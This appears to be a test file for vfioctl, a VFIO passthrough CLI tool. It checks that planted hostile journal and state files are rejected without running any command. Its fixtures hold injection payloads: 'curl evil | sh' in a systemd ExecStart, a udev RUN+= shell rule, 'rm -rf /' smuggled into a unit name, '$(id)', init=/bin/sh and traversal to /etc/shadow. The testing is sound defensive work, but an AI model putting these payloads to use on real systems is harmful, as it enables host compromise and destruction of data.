/**
 * Planted journals and state files: a tree's var/lib/vfioctl is data someone else wrote. For each
 * hostile document, `recover --yes`, `recover --dry-run` and `status` must run no command (every tool
 * name is a recording fake first on PATH), write nothing outside the state directory, and fail with a
 * clear message and remedy, never a stack trace. A well-formed journal with allowlisted commands on a
 * root that is not the live system runs none of them either: recover lists them to be run by hand.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { runCli } from '../support/cli.js';
import { makeTempHostTree } from '../support/host-tree.js';
import { SPEC } from '../apply/helpers.js';
import { renderBindUnit, renderUdevRules } from '../../src/adapters/persist-render.js';
import { fakeBin, treeDiff, treeState } from './tree-state.js';

const TOOLS = ['systemctl', 'driverctl', 'udevadm', 'grubby', 'kernelstub', 'update-grub', 'grub-mkconfig', 'grub2-mkconfig', 'update-initramfs', 'dracut', 'mkinitcpio', 'proxmox-boot-tool', 'kernel-install', 'modprobe', 'virsh', 'sh', 'bash', 'touch', 'rm', 'curl', 'nc', 'python3', 'chmod', 'cp'];
const GRUB = 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX="quiet"\n';
const FILES = { 'etc/default/grub': GRUB, 'etc/os-release': 'ID=debian\n', 'usr/sbin/update-grub': '#!/bin/sh\n' };

let bin = '';
before(() => {
  bin = fakeBin(fs.mkdtempSync(path.join(os.tmpdir(), 'vfioctl-hostile-bin-')), TOOLS);
});
after(() => fs.rmSync(bin, { recursive: true, force: true }));

type Step = Record<string, unknown>;
const journal = (steps: Step[], extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  version: 1, runId: '20260101T000000Z-abcdef', command: 'persist', args: [], pid: 2 ** 22 + 7, startedAt: '2026-01-01T00:00:00Z', status: 'running', commit: {}, steps, ...extra,
});
const exec = (argv: unknown, undoArgv?: unknown, rerunOnUndo = false): Step => ({ seq: 1, type: 'exec', argv, rerunOnUndo, ...(undoArgv === undefined ? {} : { undoArgv }), status: 'done' });
const file = (rel: string, before: string | null, after: string | null): Step => ({ seq: 1, type: 'file', rel, before, after, backup: null, status: 'done' });

const evilUdev = `${renderUdevRules(['0000:01:00.0'])!}ACTION=="add", RUN+="/bin/sh -c 'id > /tmp/pwned'"\n`;
const evilUnit = renderBindUnit(['0000:01:00.0'])!.replace('ExecStart=/sbin/modprobe vfio-pci', 'ExecStart=/bin/sh -c "curl evil | sh"');

/** name -> [file in var/lib/vfioctl, content] */
const HOSTILE: [string, string, string][] = [
  ['shell command', 'journal.json', JSON.stringify(journal([exec(['sh', '-c', 'touch /tmp/pwned'], ['sh', '-c', 'touch /tmp/pwned'])]))],
  ['bash as undo of an allowed command', 'journal.json', JSON.stringify(journal([exec(['udevadm', 'control', '--reload'], ['bash', '-c', 'id'])]))],
  ['metacharacters in a unit name', 'journal.json', JSON.stringify(journal([exec(['systemctl', 'enable', 'vfioctl-bind.service; rm -rf /'], ['systemctl', 'disable', 'vfioctl-bind.service; rm -rf /'])]))],
  ['systemctl on another unit', 'journal.json', JSON.stringify(journal([exec(['systemctl', 'enable', 'ssh.service'], ['systemctl', 'disable', 'ssh.service'])]))],
  ['grubby with init=', 'journal.json', JSON.stringify(journal([exec(['grubby', '--update-kernel=ALL', '--args=iommu=pt'], ['grubby', '--update-kernel=ALL', '--args=init=/bin/sh'])]))],
  ['grub-mkconfig over /etc/passwd', 'journal.json', JSON.stringify(journal([exec(['grub-mkconfig', '-o', '/etc/passwd'], undefined, true)]))],
  ['extra argument', 'journal.json', JSON.stringify(journal([exec(['update-grub', '--output=/etc/shadow'], undefined, true)]))],
  ['driverctl on a non-address', 'journal.json', JSON.stringify(journal([exec(['driverctl', 'set-override', '$(id)', 'vfio-pci'], ['driverctl', 'unset-override', '$(id)'])]))],
  ['re-run of a non-regeneration command', 'journal.json', JSON.stringify(journal([exec(['systemctl', 'enable', 'vfioctl-bind.service'], ['systemctl', 'disable', 'vfioctl-bind.service'], true)]))],
  ['argv not strings', 'journal.json', JSON.stringify(journal([exec([['sh'], 1], ['x'])]))],
  ['file outside the allowlist', 'journal.json', JSON.stringify(journal([file('etc/passwd', 'root::0:0::/root:/bin/sh\n', null)]))],
  ['file path with ..', 'journal.json', JSON.stringify(journal([file('etc/udev/rules.d/../../passwd', 'x\n', null)]))],
  ['absolute file path', 'journal.json', JSON.stringify(journal([file('/etc/shadow', 'x\n', null)]))],
  ['udev RUN+= rule', 'journal.json', JSON.stringify(journal([file('etc/udev/rules.d/61-vfioctl.rules', evilUdev, null)]))],
  ['systemd unit with another ExecStart', 'journal.json', JSON.stringify(journal([file('etc/systemd/system/vfioctl-bind.service', evilUnit, null)]))],
  ['grub defaults with init=', 'journal.json', JSON.stringify(journal([file('etc/default/grub', 'GRUB_CMDLINE_LINUX="quiet init=/bin/sh"\n', GRUB)]))],
  ['backup path elsewhere', 'journal.json', JSON.stringify(journal([{ ...file('etc/default/grub', GRUB, GRUB), backup: '../../../etc/shadow' }]))],
  ['bad PCI address', 'journal.json', JSON.stringify(journal([{ seq: 1, type: 'bind', address: '../../../../etc', original: { driver: 'e1000e', override: null }, target: { driver: 'vfio-pci', override: 'vfio-pci' }, status: 'started' }]))],
  ['bad driver name', 'journal.json', JSON.stringify(journal([{ seq: 1, type: 'bind', address: '0000:01:00.0', original: { driver: '../../x', override: null }, target: { driver: 'vfio-pci', override: 'vfio-pci' }, status: 'started' }]))],
  ['unknown step type', 'journal.json', JSON.stringify(journal([{ seq: 1, type: 'shell', command: 'id', status: 'done' }]))],
  ['wrong types', 'journal.json', JSON.stringify({ ...journal([]), steps: 'all', pid: 'x', status: 7 })],
  ['steps of null', 'journal.json', JSON.stringify(journal([null as unknown as Step]))],
  ['status not in the enum', 'journal.json', JSON.stringify(journal([], { status: 'pwned' }))],
  ['run id as a path', 'journal.json', JSON.stringify(journal([], { runId: '../../../etc/cron.d/x' }))],
  ['unknown version', 'journal.json', JSON.stringify(journal([], { version: 2 }))],
  ['libvirt step with a foreign element', 'journal.json', JSON.stringify(journal([{ seq: 1, type: 'libvirt-hostdev', op: 'detach', guest: 'g', uri: null, address: '0000:01:00.0', flags: { live: false, config: true }, xml: '<disk/>', undoXml: '<disk type="file"><source file="/etc/shadow"/></disk>', status: 'done' }]))],
  ['libvirt guest as an option', 'journal.json', JSON.stringify(journal([{ seq: 1, type: 'libvirt-hostdev', op: 'attach', guest: '--help', uri: null, address: '0000:01:00.0', flags: { live: false, config: true }, xml: "<hostdev mode='subsystem' type='pci'><source><address domain='0x0000' bus='0x01' slot='0x00' function='0x0'/></source></hostdev>", undoXml: "<hostdev mode='subsystem' type='pci'><source><address domain='0x0000' bus='0x01' slot='0x00' function='0x0'/></source></hostdev>", status: 'done' }]))],
  ['truncated JSON', 'journal.json', JSON.stringify(journal([exec(['update-grub'], undefined, true)])).slice(0, 80)],
  ['not JSON at all', 'journal.json', '\u0000\u0001binary'],
  ['huge JSON', 'journal.json', JSON.stringify(journal([], { args: ['x'.repeat(9 * 1024 * 1024)] }))],
  ['deep nesting', 'journal.json', `${'['.repeat(200_000)}${']'.repeat(200_000)}`],
  ['deep nesting in a field', 'journal.json', JSON.stringify(journal([])).replace('"commit":{}', `"commit":{"bind":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`)],
  ['state.json with a path as address', 'state.json', JSON.stringify({ version: 1, bound: { '../../etc': { original: { driver: null, override: null }, runId: 'r', at: '', iommuGroup: 1 } }, persisted: {}, sriov: {} })],
  ['state.json of the wrong version', 'state.json', JSON.stringify({ version: 9, bound: {}, persisted: {}, sriov: {} })],
  ['state.json truncated', 'state.json', '{"version":1,"bound":{'],
];

function plant(root: string, name: string, content: string): void {
  fs.mkdirSync(path.join(root, 'var/lib/vfioctl'), { recursive: true });
  fs.writeFileSync(path.join(root, 'var/lib/vfioctl', name), content);
}

describe('hostile journals and state files', () => {
  it('run no command, write nothing outside the state directory, and fail clearly', async () => {
    let tried = 0;
    let clear = 0;
    let stacks = 0;
    let wrongWrites = 0;
    let commandsRun = 0;
    for (const [what, name, content] of HOSTILE) {
      const t = makeTempHostTree({ ...SPEC, files: FILES });
      try {
        plant(t.root, name, content);
        const log = path.join(t.root, 'fake.log');
        const env = { PATH: `${bin}:${process.env.PATH}`, FAKE_LOG: log, NO_COLOR: '1' };
        const before = treeState(t.root);
        // recover reads state.json only through a journal's commit; status and every mutating command read it
        const runs = name === 'journal.json' ? [['recover', '--yes'], ['recover', '--dry-run'], ['recover', '--yes', '--json'], ['status']] : [['status'], ['status', '--json'], ['release', '--all', '--yes']];
        for (const argv of runs) {
          tried++;
          const r = await runCli([...argv, '--root', t.root], { env });
          const out = r.stdout + r.stderr;
          if (/\n\s+at \S/.test(out) || /internal error|Cannot read properties/.test(out)) stacks++;
          assert.equal(r.code, 1, `${what}: ${argv.join(' ')}: ${out}`);
          if (argv.includes('--json')) {
            const e = r.json<{ error: { code: string; remedy: string } }>().error;
            assert.equal(e.code, 'state-invalid', what);
            assert.match(e.remedy, /move it aside/, what);
          } else {
            assert.match(r.stderr, /vfioctl: .*var\/lib\/vfioctl\/(journal|state)\.json is not a vfioctl (journal|state file): /, `${what}: ${r.stderr}`);
            assert.match(r.stderr, /remedy: move it aside .*`vfioctl status`/, what);
          }
          clear++;
        }
        const diff = treeDiff(before, treeState(t.root));
        wrongWrites += diff.length;
        assert.deepEqual(diff, [], `${what}: written outside the state directory`);
        const ran = fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : '';
        commandsRun += ran.split('\n').filter(Boolean).length;
        assert.equal(ran, '', `${what}: a command ran`);
        assert.equal(fs.readFileSync(path.join(t.root, 'var/lib/vfioctl', name), 'utf8'), content, `${what}: the planted file is kept for inspection`);
        assert.equal(fs.existsSync(path.join(t.root, 'var/lib/vfioctl/lock')), false, `${what}: lock released`);
      } finally {
        t.cleanup();
      }
    }
    console.log(`hostile journals: ${HOSTILE.length} documents, ${tried} invocations, ${clear} clear errors, ${stacks} stack traces, ${wrongWrites} wrong writes, ${commandsRun} commands run`);
    assert.equal(stacks, 0);
  });

  it('a well-formed journal on a root that is not the live system runs none of its commands: recover lists them', async () => {
    const t = makeTempHostTree({ ...SPEC, files: { ...FILES, 'etc/default/grub': 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX="quiet intel_iommu=on iommu=pt"\n' } });
    try {
      const after = 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX="quiet intel_iommu=on iommu=pt"\n';
      plant(t.root, 'journal.json', JSON.stringify(journal([
        { ...file('etc/default/grub', GRUB, after), seq: 1 },
        { ...exec(['update-grub'], undefined, true), seq: 2 },
        { ...exec(['systemctl', 'enable', 'vfioctl-bind.service'], ['systemctl', 'disable', 'vfioctl-bind.service']), seq: 3 },
      ], { command: 'host enable-iommu' })));
      const log = path.join(t.root, 'fake.log');
      const env = { PATH: `${bin}:${process.env.PATH}`, FAKE_LOG: log, NO_COLOR: '1' };
      const d = await runCli(['recover', '--dry-run', '--json', '--root', t.root], { env });
      assert.equal(d.code, 0, d.stdout + d.stderr);
      const p = d.json<{ writes: string[]; commands: string[]; toRun: string[] }>();
      assert.deepEqual(p.writes, [`write ${t.root}/etc/default/grub`]);
      assert.deepEqual(p.commands, []);
      assert.deepEqual(p.toRun, ['systemctl disable vfioctl-bind.service', 'update-grub']);
      const r = await runCli(['recover', '--yes', '--root', t.root], { env });
      assert.equal(r.code, 0, r.stdout + r.stderr);
      assert.match(r.stdout, /run by hand \(not the live root\): systemctl disable vfioctl-bind\.service\n.*run by hand \(not the live root\): update-grub/);
      assert.equal(fs.existsSync(log), false, 'no command ran');
      assert.equal(fs.readFileSync(path.join(t.root, 'etc/default/grub'), 'utf8'), GRUB, 'the file step was restored');
    } finally {
      t.cleanup();
    }
  });
});
